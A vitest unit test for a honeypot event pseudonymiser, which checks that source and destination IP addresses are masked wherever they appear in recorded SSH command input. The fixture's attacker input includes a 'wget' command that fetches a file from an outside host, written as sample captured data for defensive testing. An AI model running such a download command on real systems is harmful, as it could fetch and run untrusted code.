import type { CerberusEvent } from '@cerberusmesh/contracts';
import { describe, expect, it } from 'vitest';
import { pseudonymiseEvent } from './pseudonymise-event.ts';

const event: CerberusEvent = {
  id: '0198f3a0-0000-7000-8000-000000000001',
  at: '2026-05-01T10:00:00.000Z',
  sensorId: 'sensor-1',
  trap: 'ssh',
  sessionId: '0198f3a0-0000-7000-8000-000000000002',
  source: { address: '198.51.100.7', port: 4_000 },
  destination: { address: '192.0.2.1', port: 22 },
  protocol: 'ssh',
  kind: 'command.entered',
  data: { input: 'ssh 192.0.2.1; echo 198.51.100.7:80 198.51.100.77; wget http://203.0.113.9/x', channel: 'exec' },
};

describe('a pseudonymised event', () => {
  it('names neither source nor destination, wherever they stand, and keeps other addresses', () => {
    const hidden = new Map([
      ['198.51.100.7', '10.0.0.1'],
      ['192.0.2.1', '10.0.0.2'],
    ]);
    expect(pseudonymiseEvent(event, { of: (address) => hidden.get(address) ?? address })).toEqual({
      ...event,
      source: { address: '10.0.0.1', port: 4_000 },
      destination: { address: '10.0.0.2', port: 22 },
      data: { input: 'ssh 10.0.0.2; echo 10.0.0.1:80 198.51.100.77; wget http://203.0.113.9/x', channel: 'exec' },
    });
  });
});
